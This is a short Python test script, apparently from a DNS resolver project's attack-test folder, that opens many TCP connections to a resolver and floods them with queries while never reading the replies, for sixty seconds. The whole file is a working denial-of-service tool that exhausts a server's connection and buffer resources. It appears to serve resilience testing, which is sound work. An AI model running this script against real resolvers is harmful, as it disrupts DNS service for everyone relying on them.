# SPDX-License-Identifier: Apache-2.0
"""Open TCP connections to a resolver, ask, and never read: `python -m tests.attacks.dns_deaf 10.0.0.1 100`."""

import contextlib
import socket
import struct
import sys
import time

import dns.message


class Deaf:
    """So many connections, which ask for as long as the kernel takes questions."""

    def __init__(self, server: str, port: int, connections: int, *, source: str | None = None) -> None:
        wire = dns.message.make_query("all", "A").to_wire()
        self._question = struct.pack("!H", len(wire)) + wire
        self.sockets = []
        for _ in range(connections):
            sock = socket.create_connection((server, port), source_address=(source, 0) if source is not None else None)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            sock.setblocking(False)
            self.sockets.append(sock)

    def ask(self) -> int:
        """Send questions until the kernel takes no more; return the number of connections that are still open."""
        alive = 0
        for sock in self.sockets:
            with contextlib.suppress(BlockingIOError):
                try:
                    for _ in range(64):
                        sock.sendall(self._question)
                except (ConnectionError, BrokenPipeError):
                    continue
            alive += 1
        return alive

    def close(self) -> None:
        """End all connections."""
        for sock in self.sockets:
            sock.close()


if __name__ == "__main__":
    deaf = Deaf(sys.argv[1], 53, int(sys.argv[2]))
    for _ in range(60):
        print(deaf.ask(), "connections are open")
        time.sleep(1)
